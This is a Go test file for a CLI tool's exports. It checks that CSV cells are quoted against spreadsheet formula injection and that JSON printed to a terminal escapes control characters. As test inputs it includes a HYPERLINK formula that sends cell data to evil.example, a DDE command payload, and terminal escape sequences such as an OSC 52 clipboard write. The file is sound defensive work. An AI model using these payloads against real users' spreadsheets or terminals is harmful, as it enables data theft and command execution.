package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/rebound-coach/rebound/internal/journal"
	"github.com/rebound-coach/rebound/internal/textsafe"
)

// Cells a spreadsheet would run as formulas get a leading quote; every
// cell is quoted. The first two rows are OWASP's own examples.
func TestCSVCellNeutralised(t *testing.T) {
	for in, want := range map[string]string{
		`=1+2";=1+2`:                  `"'=1+2"";=1+2"`,
		`=1+2'" ;,=1+2`:               `"'=1+2'"" ;,=1+2"`,
		`=HYPERLINK("http://x","y")`:  `"'=HYPERLINK(""http://x"",""y"")"`,
		"+1":                          `"'+1"`,
		"-3":                          `"'-3"`,
		"@SUM(A1)":                    `"'@SUM(A1)"`,
		"\tx":                         "\"'\tx\"",
		"\rx":                         "\"'\rx\"",
		"\nx":                         "\"'\nx\"",
		"\x00x":                       "\"'\x00x\"",
		"  =x":                        `"'  =x"`,
		"\u00a0-x":                    "\"'\u00a0-x\"",
		"Acme":                        `"Acme"`,
		"a=b, c-d":                    `"a=b, c-d"`,
		"":                            `""`,
		"2026-11-20":                  `"2026-11-20"`,
		"'=already quoted":            `"'=already quoted"`,
		"line one\nline two":          "\"line one\nline two\"",
		`say "no"`:                    `"say ""no"""`,
		"日本語":                         `"日本語"`,
		" plain with a leading space": `" plain with a leading space"`,
	} {
		if got := string(appendCSVCell(nil, in)); got != want {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

// The CSV export neutralises a formula in any text field, to a file or
// not, and a spreadsheet-style reader gets the text back behind one quote.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	db, st := progressDB(t)
	n := journal.No{Who: `=HYPERLINK("http://evil.example/?d="&A1,"Click")`, Date: "2026-11-20", Reason: "price",
		Said: "-2+3", Lesson: "@SUM(1+1)*cmd|' /C calc'!A0", Next: "+call back", Tags: []string{"q4", "=x"}}
	if err := st.AddNo(&n, progressNow); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "nos.csv")
	if _, errs, code := runProgressCLI(t, db, "export", "--format", "csv", "-o", file); code != 0 {
		t.Fatalf("export -o: %s", errs)
	}
	data, _ := os.ReadFile(file)
	out, _, _ := runProgressCLI(t, db, "export", "--format", "csv")
	for name, text := range map[string]string{"file": string(data), "stdout": out} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %d rows (%v)", name, len(rows), err)
		}
		cell := map[string]string{}
		for i, h := range rows[0] {
			cell[h] = rows[1][i]
		}
		for col, want := range map[string]string{"who": "'" + n.Who, "said": "'" + n.Said, "lesson": "'" + n.Lesson,
			"next": "'" + n.Next, "tags": "q4;=x", "reason": "price", "id": "1", "date": "2026-11-20"} {
			if cell[col] != want {
				t.Errorf("%s: %s = %q, want %q", name, col, cell[col], want)
			}
		}
		for i, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
			if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
				t.Errorf("%s: line %d is not quoted cell by cell: %q", name, i+1, line)
			}
		}
	}
}

// JSON for a terminal escapes every rune a terminal obeys, and still
// decodes to exactly the same value.
func TestInertJSONIsExactAndInert(t *testing.T) {
	var hidden strings.Builder
	for r := rune(0); r < 0x3000; r++ {
		if textsafe.Hidden(r) {
			hidden.WriteRune(r)
		}
	}
	v := map[string]string{"who": "Evil\x1b]52;c;cHduZWQ=\x07\x1b]0;title\x07\x1b[?1049h\u009b2J\u202eCorp 日本語 👍🏽 " + hidden.String()}
	var plain, inert bytes.Buffer
	if err := writeJSON(&plain, v); err != nil {
		t.Fatal(err)
	}
	// One Write per byte of ASCII and per rune otherwise would also be
	// whole runes; the writers here write whole JSON values.
	if _, err := (inertJSON{&inert}).Write(plain.Bytes()); err != nil {
		t.Fatal(err)
	}
	for i, r := range inert.String() {
		if r != '\n' && textsafe.Hidden(r) {
			t.Fatalf("byte %d: %U left raw in %q", i, r, inert.String())
		}
	}
	if !utf8.Valid(inert.Bytes()) {
		t.Fatal("invalid UTF-8")
	}
	var back map[string]string
	if err := json.Unmarshal(inert.Bytes(), &back); err != nil || back["who"] != v["who"] {
		t.Fatalf("decoded %q (%v), want %q", back["who"], err, v["who"])
	}
	if plain.String() == inert.String() {
		t.Fatal("nothing was escaped")
	}
}
